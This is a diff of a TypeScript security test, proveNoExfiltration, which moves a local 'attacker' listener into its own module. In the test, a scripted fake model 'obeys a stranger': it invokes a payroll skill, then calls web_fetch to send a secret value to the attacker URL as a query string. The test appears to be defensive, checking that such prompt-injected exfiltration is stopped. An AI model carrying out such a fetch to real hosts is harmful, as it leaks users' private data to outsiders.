@@ -4,10 +4,7 @@
  */
 import assert from 'node:assert/strict'
 import { randomBytes } from 'node:crypto'
-import { once } from 'node:events'
 import { mkdtempSync, rmSync } from 'node:fs'
-import { createServer } from 'node:http'
-import type { AddressInfo } from 'node:net'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { type Api, connect } from '../api.ts'
@@ -18,13 +15,14 @@ import {
 } from '../portable/scripted-provider.ts'
 import { freePort, startServer } from '../server-process.ts'
 import { deliver } from '../triggers/deliveries.ts'
+import { startStrangersListener } from './strangers-listener.ts'
 
 const key = 'rep_proof_0123456789abcdef0123456789abcdef'
 const secret = 'PRIVATE-0451'
 
 export async function proveNoExfiltration(report: (line: string) => void): Promise<void> {
   const dataDir = mkdtempSync(join(tmpdir(), 'repertoire-exfiltration-'))
-  const attacker = await startAttacker()
+  const attacker = await startStrangersListener()
   const provider = await startProvider((request) => obeyStranger(request, attacker.host))
   const env = {
     ...{ OPENAI_BASE_URL: provider.url, OPENAI_MODEL: 'scripted' },
@@ -80,23 +78,6 @@ function obeyStranger({ messages }: ChatRequest, host: string): ScriptedAnswer {
   const url = `http://${host}/?q=${known}`
   if (step === 0) return { calls: [{ name: 'use_skill', input: { name: 'payroll' } }] }
   return step === 1 ? { calls: [{ name: 'web_fetch', input: { url } }] } : { text: 'Done.' }
-}
-
-async function startAttacker() {
-  const requests: string[] = []
-  const server = createServer((request, response) => {
-    requests.push(request.url ?? '')
-    response.setHeader('content-type', 'text/plain').end('Thank you.')
-  })
-  server.listen(0, '127.0.0.1')
-  await once(server, 'listening')
-  const { port } = server.address() as AddressInfo
-  const close = async () => {
-    server.closeAllConnections()
-    server.close()
-    await once(server, 'close')
-  }
-  return { host: `127.0.0.1:${port}`, requests, close }
 }
 
 /** The outcome of each call, once the run is over. */
